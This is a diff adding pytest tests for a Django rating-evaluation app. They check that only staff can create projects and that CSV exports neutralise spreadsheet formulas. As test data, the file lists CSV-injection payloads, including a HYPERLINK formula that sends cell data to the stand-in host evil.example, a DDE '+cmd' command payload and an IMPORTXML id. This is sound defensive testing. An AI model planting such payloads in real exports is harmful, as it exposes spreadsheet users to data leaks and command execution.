@@ -1,0 +1,170 @@
+"""Issue 9, server half, played as an attacker: an annotator, an outsider, a researcher of another project.
+
+Each test states what must hold on a shared lab server; each failed on the code before the fix.
+"""
+
+import csv
+import io
+import re
+from pathlib import Path
+
+import pytest
+from django.urls import reverse
+
+from datasets.models import Item
+from evaluations import exports
+from evaluations.ratings_import import import_ratings
+from evaluations.safe_csv import PLAIN_NUMBER
+from projects.models import Project
+from tests import factories
+
+# --- Who may create projects ------------------------------------------------------------------
+
+
+@pytest.mark.django_db
+def test_annotator_cannot_create_a_project_by_default(annotator_client, project):
+    before = Project.objects.count()
+    response = annotator_client.post("/projects/new/", {"name": "My own study", "description": ""})
+    assert response.status_code == 403
+    assert "Only staff can create projects" in response.content.decode()
+    assert Project.objects.count() == before
+
+
+@pytest.mark.django_db
+def test_outsider_gets_a_clear_refusal_page_for_the_new_project_form(outsider_client):
+    response = outsider_client.get("/projects/new/")
+    assert response.status_code == 403
+    page = response.content.decode()
+    assert "Not allowed" in page and "Ask a staff member" in page
+
+
+@pytest.mark.django_db
+def test_project_list_hides_new_project_from_non_staff_and_shows_it_to_staff(annotator_client, annotator):
+    assert "New project" not in annotator_client.get("/").content.decode()
+    annotator.is_staff = True
+    annotator.save(update_fields=["is_staff"])
+    assert "New project" in annotator_client.get("/").content.decode()
+
+
+# --- Formulas in every CSV --------------------------------------------------------------------
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3",
+    "\t=1",
+]
+FORMULA_SCALE = [
+    {"value": "=1+1", "label": "formula", "description": "a label that is a formula"},
+    {"value": "ok", "label": "ok", "description": "plain"},
+]
+NEGATIVE_SCALE = [
+    {"value": str(n), "label": f"level {n}", "description": f"level {n}"} for n in (-2, -1, 0, 1, 2)
+]
+
+
+def formula_cells(text: str) -> list[str]:
+    """Cells of a CSV that a spreadsheet would run: starting with = + - @ tab or CR, not a plain number."""
+    found = []
+    for row in csv.reader(io.StringIO(text)):
+        for cell in row:
+            if cell[:1] in set("=+-@\t\r") and not PLAIN_NUMBER.fullmatch(cell):
+                found.append(cell)
+    return found
+
+
+@pytest.fixture
+def hostile_evaluation(project):
+    """Item ids, rater names (human and model), rubric names and scale values that are formulas."""
+    dataset = factories.make_dataset(project, items=3, name="Chats")
+    Item.objects.filter(dataset=dataset, position=0).update(external_id="=IMPORTXML(A1)")
+    formula = factories.make_rubric(
+        project=project, name="=rubric()", kind="categorical", scale=FORMULA_SCALE
+    )
+    signed = factories.make_rubric(project=project, name="Signed", scale=NEGATIVE_SCALE)
+    evaluation = factories.make_evaluation(project, dataset, [formula, signed], name="Hostile")
+    humans = [factories.make_rater(project, name=name) for name in HOSTILE[:3]]
+    judge = factories.make_rater(project, name=HOSTILE[3], kind="model")
+    for item in dataset.items.all():
+        for rater in [*humans, judge]:
+            factories.make_rating(evaluation, item, formula, rater, "=1+1", explanation=HOSTILE[4])
+            factories.make_rating(evaluation, item, signed, rater, "-1" if rater != judge else "-2")
+    return evaluation
+
+
+def test_no_cell_of_the_long_or_wide_export_runs_as_a_formula(hostile_evaluation):
+    for chunks in [
+        exports.long_csv_copy(hostile_evaluation),
+        exports.long_csv(hostile_evaluation),
+        exports.wide_csv(hostile_evaluation),
+    ]:
+        text = b"".join(chunks).decode()
+        assert "HYPERLINK" in text and "'=1+1" in text
+        assert formula_cells(text) == []
+
+
+def test_wide_human_majority_of_formula_values_is_neutralised(hostile_evaluation):
+    rows = list(csv.DictReader(io.StringIO(b"".join(exports.stream(hostile_evaluation, "wide")).decode())))
+    assert {row["'=rubric()@1 | human majority"] for row in rows} == {"'=1+1"}
+    assert {row["Signed@1 | human mean"] for row in rows} == {"-1"}  # a negative mean stays a number
+
+
+def test_agreement_csv_neutralises_rater_rubric_and_scale_text(researcher_client, hostile_evaluation):
+    url = reverse("agreement_report_csv", args=[hostile_evaluation.project.slug, hostile_evaluation.pk])
+    text = researcher_client.get(url).content.decode()
+    assert "HYPERLINK" in text and "+cmd" in text
+    assert formula_cells(text) == []
+
+
+def test_negative_likert_values_stay_numbers_and_round_trip(hostile_evaluation, tmp_path):
+    text = b"".join(exports.stream(hostile_evaluation, "long")).decode()
+    values = {row["value"] for row in csv.DictReader(io.StringIO(text)) if row["rubric"] == "Signed"}
+    assert values == {"-1", "-2"}
+    path = tmp_path / "ratings.csv"
+    path.write_text(text)
+    twin = factories.make_evaluation(
+        hostile_evaluation.project, hostile_evaluation.dataset, hostile_evaluation.rubric_versions.all()
+    )
+    import_ratings(evaluation=twin, path=path)
+    assert sorted(twin.ratings.values_list("value", flat=True)) == sorted(
+        hostile_evaluation.ratings.values_list("value", flat=True)
+    )
+
+
+def test_ids_and_rater_names_with_spaces_and_formulas_survive_export_and_import(project, tmp_path):
+    dataset = factories.make_dataset(project, items=2)
+    Item.objects.filter(dataset=dataset, position=0).update(external_id=" d-0 ")
+    version = factories.make_rubric(project=project, name="Quality")
+    evaluation = factories.make_evaluation(project, dataset, [version])
+    items = list(dataset.items.order_by("position"))
+    names = ["  spaced rater ", "=HYPERLINK(1)", "'=quoted", "-1"]
+    for rater in (factories.make_rater(project, name=name) for name in names):
+        for item in items:
+            factories.make_rating(evaluation, item, version, rater, "3", explanation=" =keep me ")
+    path = tmp_path / "long.csv"
+    path.write_bytes(b"".join(exports.stream(evaluation, "long")))
+    # Into another project with the same dataset: every rater is new there, so names come from the file alone.
+    other = factories.make_project(name="Other lab")
+    other_dataset = factories.make_dataset(other, items=2)
+    Item.objects.filter(dataset=other_dataset, position=0).update(external_id=" d-0 ")
+    other_version = factories.make_rubric(project=other, name="Quality")
+    target = factories.make_evaluation(other, other_dataset, [other_version])
+    import_ratings(evaluation=target, path=path)
+    got = set(target.ratings.values_list("item__external_id", "rater__name", "explanation"))
+    want = set(evaluation.ratings.values_list("item__external_id", "rater__name", "explanation"))
+    assert got == want
+    assert (" d-0 ", "  spaced rater ", " =keep me ") in got
+
+
+def test_every_csv_writer_in_the_code_goes_through_safe_csv():
+    root = Path(__file__).resolve().parents[1]
+    offenders = []
+    for path in root.rglob("*.py"):
+        relative = path.relative_to(root)
+        if relative.parts[0] in {".venv", "tests", "bench"} or relative == Path("evaluations/safe_csv.py"):
+            continue
+        text = path.read_text()
+        if re.search(r"\bcsv\.(writer|DictWriter)\(", text):
+            offenders.append(str(relative))
+    assert offenders == []
